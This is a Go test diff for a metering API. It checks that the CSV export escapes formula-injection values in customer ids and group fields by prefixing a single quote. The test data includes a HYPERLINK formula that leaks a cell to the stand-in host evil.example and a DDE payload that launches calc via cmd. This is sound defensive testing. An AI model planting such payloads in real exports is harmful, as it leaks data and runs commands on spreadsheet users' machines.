@@ -1,6 +1,7 @@
 package query
 
 import (
+	"encoding/csv"
 	"net/http"
 	"net/url"
 	"strings"
@@ -76,6 +77,62 @@ func TestUsageEmpty(t *testing.T) {
 		code, body, _ := e.do("GET", "/api/v1/meters/tokens/query?"+params, keyAcme, nil)
 		if code != http.StatusOK || !strings.Contains(string(body), `"data":[]`) {
 			t.Errorf("%s: %d %s", params, code, body)
+		}
+	}
+}
+
+// TestUsageCSVFormulaInjection: a spreadsheet runs a cell that starts
+// with =, +, -, @, a tab or a carriage return as a formula, so group
+// values and customer ids (the caller's own text) that start with one are
+// written with a leading single quote (OWASP's CSV injection advice).
+// Tally's own cells are left as they are: a negative value stays a
+// number.
+func TestUsageCSVFormulaInjection(t *testing.T) {
+	e := newEnv(t)
+	m := e.createMeter(keyAcme, `{"key": "balance", "event_type": "b", "aggregation": "SUM", "value_property": "$.v", "group_by": {"note": "$.note"}}`)
+	hostile := map[string]string{ // customer id -> group value
+		"c1":  `=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
+		"+c2": "+1+2",
+		"-c3": "-2+3",
+		"@c4": "@SUM(1+1)*cmd|' /C calc'!A0",
+		"c5":  "\t=1+1",
+		"c6":  "\r=1+1",
+		"c7":  "plain=text",
+	}
+	var rows []reading
+	for customer, note := range hostile {
+		rows = append(rows, reading{org: "acme", meter: "balance", revision: m.Revision, customer: customer, eventID: "e-" + customer,
+			time: at(t, "2024-03-10T04:00:00Z"), value: "-5", groups: map[string]string{"note": note}})
+	}
+	e.insert(rows...)
+	code, body, _ := e.do("GET", "/api/v1/meters/balance/query?group_by=customer_id&group_by=note&from=2024-03-01T00:00:00Z&to=2024-04-01T00:00:00Z",
+		keyAcme, nil, "Accept", "text/csv")
+	if code != http.StatusOK {
+		t.Fatalf("%d %s", code, body)
+	}
+	records, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
+	if err != nil {
+		t.Fatalf("%v in %q", err, body)
+	}
+	got := map[string][]string{}
+	for _, r := range records[1:] {
+		got[r[2]] = r[3:]
+	}
+	want := map[string][]string{
+		"c1":   {`'=HYPERLINK("http://evil.example/?leak="&A1,"click")`, "-5"},
+		"'+c2": {"'+1+2", "-5"},
+		"'-c3": {"'-2+3", "-5"},
+		"'@c4": {"'@SUM(1+1)*cmd|' /C calc'!A0", "-5"},
+		"c5":   {"'\t=1+1", "-5"},
+		"c6":   {"'\r=1+1", "-5"},
+		"c7":   {"plain=text", "-5"},
+	}
+	if len(got) != len(want) {
+		t.Errorf("CSV rows %q, want %d", records, len(want))
+	}
+	for customer, cells := range want {
+		if g := got[customer]; len(g) != 2 || g[0] != cells[0] || g[1] != cells[1] {
+			t.Errorf("customer %q: cells %q, want %q", customer, g, cells)
 		}
 	}
 }
